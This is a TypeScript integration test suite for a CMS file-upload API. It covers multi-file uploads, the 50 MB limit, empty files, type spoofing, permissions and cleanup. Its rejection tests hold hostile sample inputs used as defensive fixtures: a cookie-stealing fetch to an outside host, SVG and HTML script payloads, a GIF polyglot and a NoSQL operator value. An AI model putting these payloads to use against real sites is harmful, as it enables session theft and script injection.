import { readdir } from 'node:fs/promises';
import { connect } from 'node:net';
import { createId } from 'page-format';
import sharp from 'sharp';
import { describe, expect, it, vi } from 'vitest';
import { call } from './harness/client.ts';
import { paint } from './harness/images.ts';
import { createPage, newSlug, page, publish } from './harness/pages.ts';
import { sharedCms } from './harness/shared-cms.ts';
import { createUser } from './harness/sign-in.ts';
import { temporaryFolder } from './harness/start-cms.ts';

const LIMIT = 50 * 1024 * 1024;

interface Sent {
  name: string;
  content: Buffer | string;
  type?: string;
}

/** `POST /api/upload` with repeated `files` fields. */
function upload(files: Sent[], { as = 'admin' as const, query = '', token = '', fileInfo = '' } = {}) {
  const form = new FormData();
  if (fileInfo) form.append('fileInfo', fileInfo);
  for (const { name, content, type = 'image/png' } of files) {
    form.append('files', new Blob([content as BlobPart], { type }), name);
  }
  const headers = token ? { headers: { Authorization: `Bearer ${token}` } } : { as };
  return call(`/api/upload${query}`, { body: form, ...headers });
}

/** Names of the stored files that contain a text. */
async function find(name: string): Promise<string[]> {
  const { body } = await call(`/api/files?mime=any&name=${name}&sort=name:asc`, { as: 'admin' });
  return body.map((file: { name: string }) => file.name);
}

const png = (await paint({ width: 40, height: 30, format: 'png' })) as Buffer;

const jpeg = await paint({ width: 9, height: 9 });

/** A video of so many bytes: its head, and one box of nothing. */
function video(size: number): Buffer {
  const bytes = Buffer.alloc(size);
  bytes.write('\0\0\0\x18ftypisom\0\0\x02\0isomiso2', 'latin1');
  bytes.writeUInt32BE(size - 24, 24);
  bytes.write('mdat', 28, 'latin1');
  return bytes;
}

describe('POST /api/upload', () => {
  it('stores several files and answers with their list', async () => {
    const mark = createId();
    const { status, body } = await upload([
      { name: `${mark}-one.png`, content: png },
      { name: `${mark}-two.jpg`, content: await paint({ width: 20, height: 20 }), type: 'image/jpeg' },
    ]);
    expect(status).toBe(201);
    expect(body).toHaveLength(2);
    // A request's files are written side by side, so they can be ready in any order.
    const [one, two] = body.toSorted((a: { name: string }, b: { name: string }) => (a.name < b.name ? -1 : 1));
    expect(one).toMatchObject({
      id: expect.any(Number),
      documentId: expect.any(String),
      name: `${mark}-one.png`,
      url: expect.stringMatching(/^\/uploads\//),
      mime: 'image/png',
      width: 40,
      height: 30,
      ext: '.png',
      folder: null,
    });
    expect(two).toMatchObject({ name: `${mark}-two.jpg`, mime: 'image/jpeg' });
  });

  it('takes API tokens, whose files go into the folder for them', async () => {
    const name = `${createId()}.png`;
    const { status, body } = await upload([{ name, content: png }], { as: 'api' as never });
    expect(status).toBe(201);
    expect(body[0]).toMatchObject({ name, folder: 'API Uploads' });
  });

  it('stores ten files at once, in one request or in ten', async () => {
    const mark = createId();
    const ten = Array.from({ length: 10 }, (_, index) => ({ name: `${mark}-${index}.png`, content: png }));
    expect((await upload(ten)).body).toHaveLength(10);
    const answers = await Promise.all(ten.map((file) => upload([{ ...file, name: `again-${file.name}` }])));
    expect(answers.map(({ status }) => status)).toEqual(Array(10).fill(201));
    expect(await find(mark)).toHaveLength(20);
  });

  it('keeps what describes the files, one by one', async () => {
    const name = `${createId()}.png`;
    const fileInfo = JSON.stringify({ name, alternativeText: 'A bike', focalPoint: { x: 10, y: 90 } });
    const { body } = await upload([{ name, content: png }], { fileInfo });
    expect(body[0]).toMatchObject({ alternativeText: 'A bike', focalPoint: { x: 10, y: 90 } });
  });

  it('takes a file of 50 MB, and none that is larger', async () => {
    const mark = createId();
    const type = 'video/mp4';
    expect((await upload([{ name: `${mark}-fits.mp4`, content: video(LIMIT), type }])).status).toBe(201);
    const refused = await upload([{ name: `${mark}-large.mp4`, content: video(LIMIT + 1), type }]);
    expect(refused.status).toBe(413);
    expect(refused.body.error.message).toMatch(/larger than 50 MB/);
    expect(await find(mark)).toEqual([`${mark}-fits.mp4`]);
  });
});

it('what describes files belongs to them in the order they were sent, however large they are', async () => {
  const mark = createId();
  const names = Array.from({ length: 8 }, (_, index) => `${mark}-${index}.png`);
  const form = new FormData();
  for (const [index, name] of names.entries()) {
    form.append('fileInfo', JSON.stringify({ name, alternativeText: `About ${index}` }));
    const background = { r: 20, g: 120, b: 80 };
    const picture = await sharp({ create: { width: 40 + index, height: 30, channels: 3, background } })
      .png()
      .toBuffer();
    // Trailing bytes are no part of a PNG, and take their time on the way to the disk.
    const padding = new Uint8Array(index % 2 === 0 ? 4_000_000 : 0);
    form.append('files', new Blob([picture as BlobPart, padding], { type: 'image/png' }), name);
  }
  const { status, body } = await call('/api/upload', { as: 'admin', body: form });
  expect(status).toBe(201);
  const described = (body as { name: string; alternativeText: string; width: number }[])
    .map(({ name, alternativeText, width }) => [name, alternativeText, width])
    .sort();
  expect(described).toEqual(names.map((name, index) => [name, `About ${index}`, 40 + index]));
});

describe('empty files', () => {
  it('are skipped beside others, and what describes them with them', async () => {
    const mark = createId();
    const form = new FormData();
    for (const [name, content] of [
      ['empty.png', ''],
      ['full.png', png],
    ] as const) {
      form.append('fileInfo', JSON.stringify({ name: `${mark}-${name}`, alternativeText: name }));
      form.append('files', new Blob([content as BlobPart], { type: 'image/png' }), `${mark}-${name}`);
    }
    const { status, body } = await call('/api/upload', { as: 'admin', body: form });
    expect(status).toBe(201);
    expect(body).toEqual([expect.objectContaining({ name: `${mark}-full.png`, alternativeText: 'full.png' })]);
  });

  it.each([
    ['one empty file', [{ name: 'empty.png', content: '' }]],
    [
      'only empty files',
      [
        { name: 'a.png', content: '' },
        { name: 'b.jpg', content: '' },
      ],
    ],
    ['no file', []],
  ])('leave nothing to upload: %s', async (_, files) => {
    const { status, body } = await upload(files);
    expect(status).toBe(400);
    expect(body.error.message).toBe('No valid files to upload');
  });
});

describe('what is refused', () => {
  const SCRIPT = 'fetch("https://example.com/" + document.cookie)';
  const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>';

  it.each([
    ['a script named .png', { name: 'run.png', content: SCRIPT }, /content of "run.png" is no .png file/],
    ['a script that begins like a GIF', { name: 'run.gif', content: `GIF89a=1;${SCRIPT}` }, /./],
    ['an SVG', { name: 'draw.svg', content: SVG, type: 'image/svg+xml' }, /cannot be uploaded here/],
    ['an SVG named .png', { name: 'draw.png', content: SVG }, /no .png file/],
    ['markup named .jpg', { name: 'page.jpg', content: '<!doctype html><script>1</script>' }, /no .jpg file/],
    ['one byte', { name: 'byte.png', content: 'x' }, /no .png file/],
    ['a PNG that breaks off', { name: 'half.png', content: png.subarray(0, 20) }, /half\.png/],
    ['a zip named .xlsx', { name: 'x.xlsx', content: Buffer.from('504b030414000000', 'hex') }, /no .xlsx file/],
    ['a JPEG named .png', { name: 'photo.png', content: jpeg }, /no .png file/],
    ['no ending', { name: 'photo', content: png }, /Files may end in .jpg/],
    ['two endings', { name: 'photo.png.js', content: png }, /Files may end in/],
  ])('%s', async (_, file, message) => {
    const mark = createId();
    const { status, body } = await upload([
      { ...file, name: file.name },
      { name: `${mark}.png`, content: png },
    ]);
    expect(status).toBe(400);
    expect(body.error.message).toMatch(message);
    expect(await find(mark), 'the good file beside it').toEqual([]);
  });

  it('an image nobody could decode: too many pixels', async () => {
    const wide = await sharp({ create: { width: 17_000, height: 1, channels: 3, background: '#fff' } })
      .png()
      .toBuffer();
    const { status, body } = await upload([{ name: 'wide.png', content: wide }]);
    expect(status).toBe(400);
    expect(body.error.message).toMatch(/17000 × 1 pixels/);
  });

  it.each(['image', 'video'])('a file of another kind where an %s is wanted', async (kind) => {
    const { status, body } = await upload([{ name: 'terms.pdf', content: '%PDF-1.4\n%%EOF' }], {
      query: `?accepts=${kind}`,
    });
    expect(status).toBe(400);
    expect(body.error.message).toMatch(/"terms.pdf" cannot be uploaded here/);
  });

  it.each(['{', '[1', 'null', '{"folder":{"$ne":null}}', '{"focalPoint":{"x":900,"y":0}}'])(
    'what describes a file wrongly: %s',
    async (fileInfo) => {
      const name = `${createId()}.png`;
      const { status } = await upload([{ name, content: png }], { fileInfo });
      expect(status).toBeGreaterThanOrEqual(200);
      expect(status).toBeLessThan(500);
    },
  );

  it('callers without a session or token, and roles that may not upload', async () => {
    const files = [{ name: 'x.png', content: png }];
    expect((await upload(files, { as: 'nobody' as never })).status).toBe(401);
    expect((await upload(files, { token: 'nonsense' })).status).toBe(401);
    const { url, adminToken } = sharedCms();
    const reader = await createUser(url, adminToken, [{ action: 'plugin::upload.read', subject: null }]);
    expect((await upload(files, { token: reader })).status).toBe(403);
    expect((await call('/api/files', { headers: { Authorization: `Bearer ${reader}` } })).status).toBe(200);
  });

  it('leaves no temporary files behind', async () => {
    await upload([{ name: 'run.png', content: SCRIPT }]);
    await upload([{ name: 'x.png', content: png }], { as: 'nobody' as never });
    const folder = temporaryFolder(sharedCms().folder);
    await vi.waitFor(async () => expect(await readdir(folder)).toEqual([]), 5_000);
  });
});

it('a connection that is cut in the middle stores nothing and harms nobody', async () => {
  const mark = createId();
  const { url, adminToken } = sharedCms();
  const { hostname, port } = new URL(url);
  const socket = connect(Number(port), hostname);
  const head = [
    'POST /api/upload HTTP/1.1',
    `Host: ${hostname}`,
    `Authorization: Bearer ${adminToken}`,
    'Content-Type: multipart/form-data; boundary=cut',
    'Content-Length: 900000',
    '',
    '--cut',
    `Content-Disposition: form-data; name="files"; filename="${mark}.png"`,
    'Content-Type: image/png',
    '',
    '',
  ].join('\r\n');
  await new Promise<void>((resolve) => socket.write(Buffer.concat([Buffer.from(head), png]), () => resolve()));
  const folder = temporaryFolder(sharedCms().folder);
  await vi.waitFor(async () => expect(await readdir(folder)).not.toEqual([]), 5_000);
  socket.destroy();
  await vi.waitFor(async () => expect(await readdir(folder)).toEqual([]), 5_000);
  expect(await find(mark)).toEqual([]);
  expect((await upload([{ name: `${mark}-after.png`, content: png }])).status).toBe(201);
});

describe('a file that is replaced in the media library', () => {
  it('is new on every page, without a change to the page', async () => {
    const [file] = (await upload([{ name: `${createId()}.png`, content: png }])).body;
    const { id, documentId, ...rest } = file;
    const { focalPoint: _, ...snapshot } = rest;
    const image = { id: createId(), type: 'Image', v: 1, props: { file: { $ref: 'media', documentId, snapshot } } };
    const slug = newSlug();
    const entry = await createPage({ slug, content: page(image) });
    expect((await publish(entry)).status).toBe(200);
    const read = async () => {
      const answer = await call(`/api/page-builder/page?country=nl&locale=nl&slug=${slug}`);
      return answer.body.data.refs[`media:${documentId}`];
    };
    expect(await read()).toMatchObject({ width: 40, height: 30 });

    const other = await paint({ width: 700, height: 500, format: 'png' });
    const info = JSON.stringify({ name: 'New.png', alternativeText: 'Another picture', focalPoint: { x: 5, y: 6 } });
    const replaced = await upload([{ name: 'other.png', content: other }], { query: `?id=${id}`, fileInfo: info });
    expect(replaced.status).toBe(200);
    expect(await read()).toMatchObject({
      width: 700,
      height: 500,
      name: 'New.png',
      alternativeText: 'Another picture',
      focalPoint: { x: 5, y: 6 },
    });
    const { url } = await read();
    const bytes = Buffer.from(await (await fetch(sharedCms().url + url)).arrayBuffer());
    expect(await sharp(bytes).metadata()).toMatchObject({ width: 700, height: 500 });

    const refused = await upload([{ name: 'run.png', content: 'alert(1)' }], { query: `?id=${id}` });
    expect(refused.status).toBe(400);
    expect(await read()).toMatchObject({ width: 700, height: 500 });
  });
});
